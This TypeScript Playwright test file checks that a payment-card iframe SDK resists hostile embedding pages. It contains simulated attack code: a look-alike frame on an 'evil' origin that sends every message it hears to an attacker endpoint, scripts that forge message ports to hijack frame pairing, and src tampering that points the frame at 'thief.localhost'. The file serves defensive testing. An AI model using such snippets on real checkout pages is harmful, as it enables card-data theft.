import { BenchPage, FIELDS, VISA, type Mode } from '../support/bench-page.js';
import { findLeaks, hostPlaces } from '../support/canary.js';
import { addRawFrames, COLLECT_SETUP } from '../support/raw-frame.js';
import { recordRequests } from '../support/requests.js';
import { Stage } from '../support/stage.js';
import { expect, test } from '../support/test.js';
import type { World } from '../support/world.js';

declare global {
  interface Window {
    /** Over the ports that a hostile page slipped in. */
    tapped: string[];
    slipped: number;
  }
}

const MODE: Mode = 'one frame';

/** A document of another site that greets as ours do, and tells its own server of everything that it hears. */
function serveLookAlike(world: World): { readonly url: string; readonly heard: readonly string[] } {
  const { build } = world.site;
  const heard: string[] = [];
  const tell = world.hosts.serve('/overheard', {
    handle: async (_, body) => {
      heard.push(body);
      return { status: 200, body: '' };
    },
  });
  const greeting = { cloister: 'hello', protocol: 1, build, role: 'collect', frame: 'a'.repeat(22) };
  const script = `const tell = (body) => fetch('${tell}', { method: 'POST', keepalive: true, body });
    addEventListener('message', (event) => tell(JSON.stringify(event.data)));
    parent.postMessage(${JSON.stringify(greeting)}, '*');
    tell('began');
    setTimeout(tell, 600, 'listened');`;
  const path = world.hosts.serve('/look-alike', {
    body: `<!doctype html><label>Card number <input></label><script>${script}</script>`,
  });
  return { url: `${world.hosts.origin('evil')}${path}`, heard };
}

test.describe('a look-alike', () => {
  test('A08 to which our frame is sent before it is welcomed gets nothing, and the frame is given up', async ({
    page,
    world,
  }) => {
    const { url, heard } = serveLookAlike(world);
    const bench = new BenchPage(page, world);
    await page.addInitScript((url) => {
      if (window !== window.top) return;
      // At the very greeting, before the SDK has heard it: its answer is on the way to a window that is leaving.
      window.addEventListener(
        'message',
        ({ data, source, origin }: MessageEvent<{ cloister?: string; role?: string }>) => {
          if (url.startsWith(origin)) return;
          if (data.cloister === 'hello' && data.role === 'collect') (source as Window).location.href = url;
        },
        true,
      );
    }, url);
    await bench.open();
    // The document that greeted may still answer the first call; when the other is there, the frame is given up.
    await bench.tryMount(MODE, { timeout: 4000 });
    await expect.poll(() => heard).toContain('began');
    await expect(page.locator('#card iframe')).toHaveCount(0);
    expect(await bench.submit()).toEqual({ ok: false, code: 'unmounted' });
    expect(heard.filter((line) => line !== 'listened')).toEqual(['began']);
  });

  test('A08 that stands in the frame from the start is not welcomed, though it greets as ours', async ({
    page,
    world,
  }) => {
    const { url, heard } = serveLookAlike(world);
    const bench = new BenchPage(page, world);
    await bench.open();
    await page.evaluate((url) => {
      const observer = new MutationObserver(() => {
        const iframe = document.querySelector('#card iframe');
        if (iframe === null) return;
        observer.disconnect();
        iframe.setAttribute('src', url);
      });
      observer.observe(document, { subtree: true, childList: true });
    }, url);
    expect(await bench.tryMount(MODE, { timeout: 6000 })).toMatchObject({ code: 'blocked' });
    expect(heard).toEqual(['began', 'listened']);
  });

  test('A10 beside our frames, of the same name and size, is told nothing while a card is paid with', async ({
    page,
    world,
  }) => {
    const { url, heard } = serveLookAlike(world);
    const bench = new BenchPage(page, world);
    await bench.open();
    await page.evaluate((url) => {
      const iframe = document.createElement('iframe');
      Object.assign(iframe, { src: url, title: 'Secure connection', name: 'coordinator' });
      document.body.prepend(iframe);
    }, url);
    expect(await bench.tryMount(MODE)).toBeNull();
    await bench.fill(VISA, MODE);
    expect(await bench.submit()).toMatchObject({ ok: true });
    expect(heard).toEqual(['began', 'listened']);
    // It hears what is addressed to it, or to anybody.
    await page.evaluate(() => {
      for (const { contentWindow } of document.querySelectorAll('iframe'))
        contentWindow?.postMessage('to anybody', '*');
    });
    await expect.poll(() => heard).toEqual(['began', 'listened', '"to anybody"']);
  });
});

test.describe('a page between the frames', () => {
  test('A09 cannot slip a port of its own into a pairing, though it knows both ids and asks all the time', async ({
    page,
    world,
  }) => {
    await page.addInitScript(() => {
      if (window !== window.top) return;
      Object.assign(window, { tapped: [], slipped: 0 });
      const known: { readonly frame: string; readonly source: Window }[] = [];
      window.addEventListener(
        'message',
        ({ data, source }: MessageEvent<{ cloister?: string; frame?: string }>) => {
          if (data.cloister === 'hello') known.push({ frame: data.frame ?? '', source: source as Window });
          if (data.cloister === 'paired') window.tapped.push('a pairing answered the page');
        },
        true,
      );
      const slip = (to: Window, message: object): void => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => window.tapped.push(JSON.stringify(data));
        for (const forged of [
          { type: 'gather', request: 1 },
          { type: 'joined', form: '', collection: '', fields: [] },
        ])
          port1.postMessage(forged);
        to.postMessage(message, '*', [port2]);
        window.slipped += 1;
      };
      setInterval(() => {
        for (const { frame, source } of known)
          for (const other of known) {
            if (other.frame === frame) continue;
            slip(source, { cloister: 'paired', coordinator: other.frame, frame });
            slip(source, { cloister: 'pair', coordinator: frame, frame: other.frame, role: 'collect' });
          }
      }, 20);
    });
    const bench = new BenchPage(page, world);
    await bench.mountCard('a frame per field');
    await bench.fill(VISA, 'a frame per field');
    expect(await bench.submit()).toMatchObject({ ok: true });
    expect(await page.evaluate(() => window.slipped)).toBeGreaterThan(500);
    expect(await page.evaluate(() => window.tapped)).toEqual([]);
  });

  test('A09 that passes greeting and welcome on by hand sees no value and no port', async ({ page, world }) => {
    await addRawFrames(page);
    const stage = await Stage.set(page, world);
    await page.goto(`${world.shop}/bench`);
    const answers = await page.evaluate(
      async ({ elements, setup }) => {
        const open = async (role: string) => {
          const raw = await window.openRaw(`${elements}/${role}.html`);
          await raw.welcome(raw.hellos[0]?.frame ?? '');
          return raw;
        };
        const coordinator = await open('coordinator');
        const collect = await open('collect');
        Object.assign(window, { raw: collect, rawCoordinator: coordinator });
        return [
          await collect.call(['setup'], setup),
          await collect.call(['pair'], { coordinator: coordinator.hellos[0]?.frame }),
          await coordinator.call(['prepare'], {}),
        ];
      },
      { elements: world.elements, setup: COLLECT_SETUP },
    );
    expect(answers).toMatchObject([{ ok: true }, { ok: true, result: {} }, { ok: true, result: { session: true } }]);
    const frame = page.frames().find((each) => each.url().endsWith('/collect.html'));
    if (frame === undefined) throw new Error('there is no frame');
    for (const field of FIELDS) await frame.getByLabel(field, { exact: true }).fill(VISA[field]);
    const outcome = await page.evaluate(async (form) => {
      const { raw, rawCoordinator: coordinator } = window as unknown as Record<string, Window['raw']>;
      const prepared = (await coordinator?.call(['prepare'], {})) as { result: { thumbprint: string } };
      const need = { jkt: prepared.result.thumbprint, purpose: 'collect', collection: 'cards' };
      const session = await window.sessionAt('/session')(need as never);
      const frames = [raw?.hellos[0]?.frame];
      return coordinator?.call(['submit'], { form, collection: 'cards', frames, session });
    }, COLLECT_SETUP.form);
    expect(outcome).toMatchObject({ ok: true, result: { facts: { number: { brand: 'visa', last4: '4242' } } } });
    await stage.trace.mark('end');
    const { entries } = stage.trace;
    const passed = entries.filter(({ stream }) => stream.startsWith('port ') || stream.startsWith('window '));
    expect(passed.length).toBeGreaterThan(10);
    // The first figure of what was received is how many ports came with it.
    expect(passed.filter(({ what }) => /^(?:in|https?:\S+) [1-9]/u.test(what))).toEqual([]);
    expect(findLeaks(hostPlaces(entries), VISA)).toEqual([]);
  });
});

test.describe('a frame that the page reloads or sends elsewhere', () => {
  const moves: readonly (readonly [string, (iframe: HTMLIFrameElement) => void])[] = [
    ['A13 is reloaded', (iframe) => iframe.setAttribute('src', iframe.src)],
    [
      'A19 is opened with other parameters',
      (iframe) => (iframe.src = `${iframe.src}?env=DEV&debug=1&vault=https://thief.localhost`),
    ],
    ['A13 is sent elsewhere', (iframe) => (iframe.src = 'about:blank')],
    ['A13 is taken out and put back', (iframe) => iframe.parentElement?.append(iframe)],
  ];
  for (const [title, move] of moves) {
    test(`${title}: it is given up, what was typed is gone, and nothing is met again silently`, async ({
      page,
      world,
    }) => {
      const requests = recordRequests(page);
      const bench = new BenchPage(page, world);
      await bench.mountCard(MODE);
      await bench.fill(VISA, MODE);
      await bench.listen();
      await page.locator('#card iframe').evaluate(move);
      await expect.poll(() => bench.heard('error')).toHaveLength(1);
      expect(await bench.submit()).toEqual({ ok: false, code: 'unmounted' });
      await expect(page.locator('#card iframe')).toHaveCount(0);
      expect(requests.filter((line) => line.includes('/v1/') || line.includes('thief.localhost:'))).toEqual([]);
      // The same form can be mounted again, by somebody who decides to; and it is empty.
      await page.evaluate(() =>
        window.form.mount('#card', { layout: [['number']], texts: { number: { label: 'Card number' } } }),
      );
      await expect(bench.input('number', MODE)).toHaveValue('');
    });
  }

  test('A20 gets another fragment: the document stays, what was typed too, and nobody reads it', async ({
    page,
    world,
  }) => {
    const bench = new BenchPage(page, world);
    await bench.mountCard(MODE);
    await bench.fill(VISA, MODE);
    const before = await bench.state();
    await page.locator('#card iframe').evaluate((iframe: HTMLIFrameElement) => {
      iframe.src = `${iframe.src}#{"env":"DEV","vault":"https://thief.localhost"}`;
    });
    const frame = await bench.frameOf('number', MODE);
    await expect.poll(() => frame.evaluate(() => location.hash)).not.toBe('');
    expect(await bench.state()).toEqual(before);
    await expect(bench.input('number', MODE)).toHaveValue('4242 4242 4242 4242');
    expect(await bench.submit()).toMatchObject({ ok: true });
  });

  test('A18 does not take the welcome of the document before it', async ({ page, world }) => {
    await addRawFrames(page);
    await page.goto(`${world.shop}/bench`);
    const ids = await page.evaluate(async (url) => {
      window.raw = await window.openRaw(url);
      const [first] = window.raw.hellos;
      window.raw.iframe.src = url;
      while (window.raw.hellos.length < 2) await new Promise((resolve) => setTimeout(resolve, 20));
      return [first?.frame ?? '', window.raw.hellos[1]?.frame ?? ''];
    }, `${world.elements}/collect.html`);
    const [first = '', second = ''] = ids;
    expect(first).not.toBe(second);
    const welcome = (id: string): Promise<boolean> => page.evaluate((frame) => window.raw.welcome(frame), id);
    expect(await welcome(first)).toBe(false);
    expect(await welcome(second)).toBe(true);
    // One connection for the document's life: the right welcome once more is not answered either.
    expect(await welcome(second)).toBe(false);
  });

  test('A18 acts on a recorded call once more at most as the page could anyway, and answers with no value', async ({
    page,
    world,
  }) => {
    await addRawFrames(page);
    await page.goto(`${world.shop}/bench`);
    const replies = await page.evaluate(
      async ({ url, setup }) => {
        const raw = await window.openRaw(url);
        await raw.welcome(raw.hellos[0]?.frame ?? '');
        return [await raw.call(['setup'], setup), await raw.call(['setup'], setup)];
      },
      { url: `${world.elements}/collect.html`, setup: COLLECT_SETUP },
    );
    expect(replies).toMatchObject([{ ok: true }, { ok: false, code: 'message' }]);
  });
});
